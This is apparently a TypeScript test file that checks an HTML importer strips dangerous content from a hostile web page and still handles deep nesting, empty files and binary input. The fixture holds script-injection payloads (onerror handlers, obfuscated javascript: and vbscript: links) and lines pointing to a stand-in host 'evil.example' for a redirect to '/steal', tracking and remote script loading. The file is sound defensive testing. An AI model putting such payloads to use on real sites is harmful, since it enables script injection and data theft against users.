import { describe, expect, it } from 'vitest';
import { importFile } from '../import';
import { nodeImportContext } from './sanitize-node';

const node = nodeImportContext();

const utf8 = (s: string): Uint8Array => new TextEncoder().encode(s);

describe('HTML import: hostile pages', () => {
  it('imports none of the code of scripts, handlers, frames, styles or refreshes, and no unsafe links', async () => {
    const page = `<!doctype html><html><head>
      <meta http-equiv="refresh" content="0; url=https://evil.example/steal">
      <style>body { background: url(https://evil.example/track.png) } .x::after { content: "STYLE TEXT" }</style>
      <script>window.SCRIPT_RAN = true; document.write("<p>INJECTED</p>")</script>
      </head><body><article>
      <h1>Safe Heading</h1>
      <p>Before <img src="x" onerror="alert('ONERROR')"> after.</p>
      <p onclick="alert('CLICK')">Links: <a href="javascript:alert('JS')">js link</a> <a href=" JaVa&#x09;ScRiPt:alert(1)">tabbed</a>
         <a href="data:text/html,<script>alert(1)</script>">data link</a> <a href="vbscript:msgbox">vb</a> <a href="https://ok.example/">ok link</a></p>
      <iframe src="https://evil.example/frame"><p>IFRAME FALLBACK</p></iframe>
      <object data="x.swf">OBJECT TEXT</object><embed src="y.swf">
      <noscript>NOSCRIPT TEXT</noscript><template><p>TEMPLATE TEXT</p></template>
      <form action="https://evil.example"><input value="FORM VALUE"><button>FORM BUTTON</button></form>
      <svg><script>alert('SVG')</script><text>SVG TEXT</text></svg>
      <script type="module">import "https://evil.example/m.js"; MODULE_CODE()</script>
      <!-- COMMENT TEXT -->
      <p>End of the story.</p>
      </article></body></html>`;
    const result = await importFile('hostile.html', utf8(page), node);
    if (!result.ok) throw new Error(result.error);
    const { text, blocks } = result.value;
    expect(text).toContain('Safe Heading');
    expect(text).toContain('Before after.');
    expect(text).toContain('js link');
    expect(text).toContain('End of the story.');
    for (const bad of ['SCRIPT_RAN', 'INJECTED', 'STYLE TEXT', 'ONERROR', 'alert', 'CLICK', 'IFRAME', 'OBJECT', 'NOSCRIPT', 'TEMPLATE', 'FORM', 'SVG', 'MODULE_CODE', 'COMMENT', 'evil.example']) {
      expect(text).not.toContain(bad);
    }
    const hrefs = blocks.flatMap((b) => b.marks ?? []).filter((m) => m.type === 'link').map((m) => m.href);
    expect(hrefs).toEqual(['https://ok.example/']);
  });

  it('survives absurdly deep nesting', async () => {
    const page = '<div>'.repeat(5000) + 'deep text' + '</div>'.repeat(5000) + '<p>shallow text</p>';
    const result = await importFile('deep.html', utf8(page), node);
    expect(result.ok && result.value.text).toContain('shallow text');
  });

  it('says a 0-byte page is empty, and a page with no text is empty too', async () => {
    expect(await importFile('blank.html', new Uint8Array(0), node)).toEqual({ ok: false, error: '“blank.html” is empty.' });
    expect(await importFile('scripts.htm', utf8('<script>only()</script>'), node)).toEqual({ ok: false, error: '“scripts.htm” is empty.' });
  });

  it('refuses binary data named .html', async () => {
    const bytes = Uint8Array.from({ length: 400 }, (_v, i) => (i * 7) % 256);
    const result = await importFile('image.html', bytes, node);
    expect(result).toMatchObject({ ok: false });
    expect(!result.ok && result.error).toMatch(/“image\.html” does not look like a web page/);
  });
});
